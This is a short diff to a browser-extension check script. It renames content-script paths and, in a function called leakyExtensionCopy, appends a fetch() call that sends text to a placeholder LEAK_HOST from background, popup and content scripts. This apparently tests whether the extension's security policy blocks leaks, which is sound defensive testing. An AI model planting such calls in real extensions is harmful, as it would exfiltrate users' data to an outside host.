@@ -263,7 +263,7 @@ function startLint() {
   const bin = path.join(ROOT, 'node_modules/.bin/web-ext');
   return new Promise((resolve) => {
     if (!fs.existsSync(path.join(dir, 'manifest.json'))) { resolve({ ok: false, detail: 'target/extension/firefox is missing: run ./build.sh build (scripts/package-extension.sh)' }); return; }
-    const stale = ['manifest.json', 'background.js', 'settings.js', 'options.js', 'content/main.js', 'content/overlay.js'].filter((f) => {
+    const stale = ['manifest.json', 'background.js', 'settings.js', 'options.js', 'content.js'].filter((f) => {
       if (f === 'manifest.json') {
         const a = JSON.parse(fs.readFileSync(path.join(EXT, f), 'utf8')), b = JSON.parse(fs.readFileSync(path.join(dir, f), 'utf8'));
         return JSON.stringify(a.content_security_policy) !== JSON.stringify(b.content_security_policy) || JSON.stringify(a.permissions) !== JSON.stringify(b.permissions);
@@ -301,7 +301,7 @@ function leakyExtensionCopy() {
   const leak = (where) => `\n;fetch('https://${LEAK_HOST}/leak/${where}?text=' + encodeURIComponent('As a City snowplow driver')).catch(() => {});\n`;
   fs.appendFileSync(path.join(dir, 'background.js'), leak('worker'));
   fs.appendFileSync(path.join(dir, 'popup.js'), leak('popup'));
-  fs.appendFileSync(path.join(dir, 'content/main.js'), leak('content-script'));
+  fs.appendFileSync(path.join(dir, 'content.js'), leak('content-script'));
   return dir;
 }
 
